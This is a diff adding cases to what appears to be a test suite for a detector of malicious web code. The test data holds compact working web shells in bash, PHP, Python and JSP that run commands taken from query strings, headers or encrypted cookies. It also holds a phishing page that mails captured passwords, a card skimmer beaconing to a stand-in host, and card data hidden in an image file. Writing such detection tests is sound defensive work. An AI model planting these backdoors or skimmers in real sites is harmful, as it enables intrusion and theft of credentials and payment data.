@@ -56,6 +56,10 @@ describe('web code', () => {
 		expect(score("<?php require 'auth.php'; move_uploaded_file($_FILES['f']['tmp_name'], './' . $_FILES['f']['name']); ?>")).toBe(0);
 		expect(score("<?php $ext = pathinfo($_FILES['f']['name'], PATHINFO_EXTENSION); if (in_array($ext, ['png'])) move_uploaded_file($_FILES['f']['tmp_name'], './' . $_FILES['f']['name']); ?>")).toBe(0);
 	});
+	test('a shell script that runs the query', () => {
+		expect(judgeWebCode('shell', '#!/bin/bash\nx=${QUERY_STRING//+/ }; eval "$(printf %b "${x//%/\\\\x}")" 2>&1\n').score).toBeGreaterThanOrEqual(6);
+		expect(judgeWebCode('shell', '#!/bin/bash\nq=$QUERY_STRING\necho "$q"\n').score).toBe(0);
+	});
 	test('the line is told', () => {
 		expect(judgeWebCode('php', "<?php\n\n\nsystem($_GET['c']);").signs[0]).toMatchObject({ line: 4 });
 	});
@@ -104,6 +108,12 @@ test.each<[string, string, string]>([
 	['a counter that runs the query', '/var/www/a/c.pl', '#!/usr/bin/perl\nprint "\\n\\n"; my $q=$ENV{QUERY_STRING}; $q=~s/%([0-9a-f]{2})/chr hex $1/gei; print `$q 2>&1`;\n'],
 	['pictures of one name as code', '/var/www/a/.htaccess', '<FilesMatch "logo_small\\.gif$">\nSetHandler application/x-httpd-php\n</FilesMatch>\n'],
 	['cards sent away as a picture', '/var/www/shop/js/vendor.min.js', 'd.addEventListener("submit",function(){var o={};/cc|card|cvv|exp/i.test(e.name)&&(o[e.name]=e.value);(new Image).src="https://fonts.example/i.gif?d="+btoa(JSON.stringify(o))},!0)'],
+	['functions named by a header', '/srv/www/shop/l.php5', "<?php $a=$_SERVER; $k='HTTP_X_FN'; isset($a[$k]) && print_r(array_map($a[$k],(array)base64_decode($a['HTTP_X_ARG'])));"],
+	['a cookie that is decrypted and run', '/srv/www/shop/vendor/autoload.php', "<?php\nif (isset($_COOKIE['u'])) { $z = openssl_decrypt($_COOKIE['u'], 'aes-128-cbc', 'k'); if ($z) { (function($c){ eval($c); })($z); exit; } }\n"],
+	['a page that asks for passwords of others', '/var/www/a/next.php', "<?php $m=$_POST['login'].$_POST['passwd'];\n@mail('box@mail.example','O365',$m); header('Location: https://login.example/');"],
+	['Python that runs a header', '/srv/api/app/trace.py', "import subprocess\nclass T:\n    def __call__(self, env, start):\n        return [subprocess.getoutput(env.get('HTTP_X_ARG', 'id')).encode()]\n"],
+	['a page that evaluates by an engine of scripts', '/opt/c/pages/n.jspx', '<jsp:scriptlet>String p=request.getHeader("X");Object s=new javax.script.ScriptEngineManager().getEngineByName("js").eval(new String(p));</jsp:scriptlet>'],
+	['stolen lines as a picture', '/var/www/a/media/ph.jpg', 'Y2NfbnVtYmVyPTQ1MzIwMTUxMTI4MzAzNjEmY2NfY2lkPTEyMSZleHA9\nY2NfbnVtYmVyPTQ1MzIwMTUxMTI4MzAzNjEmY2NfY2lkPTEyMSZleHA9\n'],
 	['an archive as a style', '/var/www/a/bundle.css', 'PK\x03\x04\x14\x00abc'],
 	['a page somebody signed', '/var/www/a/index.html', '<html><head><title>Hacked by Mallory</title></head></html>\n'],
 ])('%s', (_name, path, text) => {
